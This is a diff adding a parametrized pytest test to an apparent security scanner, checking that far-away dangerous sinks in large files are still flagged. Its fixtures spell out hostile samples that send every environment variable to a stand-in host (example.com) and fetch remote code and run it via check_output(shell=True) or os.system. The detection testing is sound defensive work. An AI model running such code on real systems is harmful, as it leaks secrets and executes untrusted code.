@@ -196,3 +196,60 @@ def test_data_flow_through_functions_outside_the_focus_is_followed(
         whole = _danger_of_text(text, "pkg/tests/__init__.py")
     assert ("CPL-THR-017", connect) in whole
     assert filtered == whole
+
+
+#: A sink called where no focus line is (attack6): the egress or process call says
+#: nothing the prefilter locates (``requests.get``, a session's ``.get``, an API
+#: imported under another name), the source that makes it a threat is far above it.
+_FAR_SINKS = {
+    "requests-get": (
+        "import os\nimport requests\n\ndata = dict(os.environ)\n",
+        "requests.get('https://example.com/c', params=data)\n",
+        "CPL-THR-006",
+    ),
+    "session-get": (
+        "import os\nimport requests\n\nsession = requests.Session()\ndata = dict(os.environ)\n",
+        "def send():\n    session.get('https://example.com/c', params=data)\n\n\nsend()\n",
+        "CPL-THR-006",
+    ),
+    "egress-imported-as": (
+        "import os\nfrom httpx import get as fetch\n\ndata = dict(os.environ)\n",
+        "fetch('https://example.com/c', params=data)\n",
+        "CPL-THR-006",
+    ),
+    "process-imported-as": (
+        "import requests\nfrom subprocess import check_output as co\n\n"
+        "code = requests.get('https://example.com/x').text\n",
+        "co(code, shell=True)\n",
+        "CPL-THR-002",
+    ),
+    "process-from-a-dispatch-table": (
+        "import os\nimport requests\n\nHANDLERS = {'run': os.system}\n"
+        "code = requests.get('https://example.com/x').text\n",
+        "HANDLERS['run'](code)\n",
+        "CPL-THR-002",
+    ),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_FAR_SINKS))
+def test_a_sink_called_outside_the_focus_of_a_large_file_is_checked(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    head, sink, rule = _FAR_SINKS[shape]
+    text = head + _PADDING + "\n\n" + sink
+    assert len(text) > 12_000
+    # the sink's own line: the one that passes what the source bound
+    line = text.count("\n", 0, text.index(", params=data)" if "params" in sink else "(code")) + 1
+    need = prefilter().check(text)
+    # the fast path is taken and the sink's line is none of its focus lines
+    assert isinstance(need, frozenset)
+    assert line not in need
+    (tmp_path / "pkg").mkdir()
+    (tmp_path / "pkg" / "client.py").write_text(text, encoding="utf-8")
+    filtered = _danger_of_tree(tmp_path)
+    with monkeypatch.context() as patch:
+        patch.setattr(_filepass, "prefilter", _Blind)
+        whole = _danger_of_tree(tmp_path)
+    assert (rule, "pkg/client.py", line) in whole
+    assert filtered == whole
